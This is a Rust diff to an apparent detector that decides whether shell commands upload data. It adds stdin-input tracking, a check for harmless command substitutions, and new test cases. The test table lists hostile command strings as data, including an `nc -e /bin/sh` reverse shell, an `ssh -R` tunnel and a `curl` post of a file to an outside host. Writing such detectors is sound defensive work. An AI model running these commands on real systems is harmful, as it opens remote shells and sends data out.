@@ -131,6 +131,8 @@ pub(crate) struct EffectRow {
     pub(crate) target: EffectTarget,
     wants: Vec<&'static str>,
     unless: Vec<&'static str>,
+    /// Whether the script must give it something to read.
+    wants_input: bool,
     /// Whether its programs run others by their words, to which `--help` may be said.
     runs_others: bool,
     /// Whether it is for programs in no table.
@@ -175,10 +177,12 @@ impl EffectRow {
             path if path.starts_with('/') => EffectTarget::Path(path),
             _ => return None,
         };
+        let is_input = |item: &&str| *item == "<";
         Some(Self {
             kind: EffectKind::of_word(kind.trim())?,
             target,
-            wants: wants.split_ascii_whitespace().collect(),
+            wants_input: wants.split_ascii_whitespace().any(|item| is_input(&item)),
+            wants: wants.split_ascii_whitespace().filter(|item| !is_input(item)).collect(),
             unless: unless.split_ascii_whitespace().collect(),
             runs_others: false,
             is_general: false,
@@ -197,7 +201,15 @@ impl EffectRow {
 
     /// Whether a command with these arguments has the effect. `takes_value` says which options before the first operand have
     /// a value.
-    pub(crate) fn fit(&self, arguments: &[Word], takes_value: &dyn Fn(&str) -> bool) -> EffectFit {
+    pub(crate) fn fit(
+        &self,
+        arguments: &[Word],
+        is_told: bool,
+        takes_value: &dyn Fn(&str) -> bool,
+    ) -> EffectFit {
+        if self.wants_input && !is_told {
+            return EffectFit::No;
+        }
         if let [only] = arguments
             && matches!(only.text.as_str(), "--help" | "--version" | "-h")
         {
@@ -386,6 +398,9 @@ fn yes(is: bool) -> EffectFit {
 /// A variable that is called so, or a word that a command gives, may be options: `git push $FLAGS`.
 fn or_unquoted(is: bool, arguments: &[Word]) -> EffectFit {
     let may_be = |word: &Word| {
+        if gives_no_option(&word.text) {
+            return false;
+        }
         let name = word.text.trim_start_matches("${").trim_start_matches('$').trim_end_matches('}');
         let is_upper = ["FLAGS", "OPTS", "OPTIONS", "ARGS"].iter().any(|end| name.ends_with(end));
         word.known == Known::Unknown
@@ -397,6 +412,21 @@ fn or_unquoted(is: bool, arguments: &[Word]) -> EffectFit {
         false if arguments.iter().any(may_be) => EffectFit::Possible,
         false => EffectFit::No,
     }
+}
+
+/// Whether a word is what a command prints that prints paths and names alone, none of which begins like an option.
+fn gives_no_option(text: &str) -> bool {
+    const PRINTERS: &[&str] = &["find", "which", "pwd", "whoami", "hostname", "nproc", "id"];
+    let inner = text.strip_prefix("$(").and_then(|rest| rest.strip_suffix(')'));
+    let inner = inner.or_else(|| text.strip_prefix('`').and_then(|rest| rest.strip_suffix('`')));
+    let says_more = |inner: &str| {
+        inner.contains([';', '|', '&', '\n', '`', '$', '<', '('])
+            || ["-printf", "-exec", " -- "].iter().any(|it| inner.contains(it))
+    };
+    inner.is_some_and(|inner| {
+        let program = inner.split_whitespace().next().unwrap_or_default();
+        PRINTERS.contains(&program) && !says_more(inner)
+    })
 }
 
 #[cfg(test)]
@@ -461,6 +491,13 @@ mod tests {
             ("aws s3 cp x s3://b", EffectKind::Upload, EffectFit::Certain),
             ("curl -sd@x https://e.example", EffectKind::Upload, EffectFit::Certain),
             ("curl -fsSL https://e.example -o x", EffectKind::Upload, EffectFit::No),
+            ("ssh host ls", EffectKind::Upload, EffectFit::No),
+            ("ssh host cat <", EffectKind::Upload, EffectFit::Certain),
+            ("ssh -R 1:a:2 host", EffectKind::Upload, EffectFit::Certain),
+            ("nc host 80", EffectKind::Upload, EffectFit::No),
+            ("nc -e /bin/sh host 80", EffectKind::Upload, EffectFit::Certain),
+            ("kubectl cp pod:/a b", EffectKind::Upload, EffectFit::No),
+            ("kubectl cp a pod:/b", EffectKind::Upload, EffectFit::Certain),
             ("scp host:a .", EffectKind::Upload, EffectFit::No),
             ("scp a host:", EffectKind::Upload, EffectFit::Certain),
         ];
@@ -469,7 +506,8 @@ mod tests {
                 text.split(' ').map(|text| Word { text: text.into(), known: Known::Certain }).collect();
             let takes_value = |option: &str| option == "-n";
             let fits = rows_of(&words[0].text).iter().filter(|row| row.kind == kind);
-            let fit = best(fits.map(|row| row.fit(&words[1..], &takes_value)));
+            let is_told = words.iter().any(|word| word.text == "<");
+            let fit = best(fits.map(|row| row.fit(&words[1..], is_told, &takes_value)));
             assert_eq!(fit, expected, "{text}: {kind:?}");
         }
     }
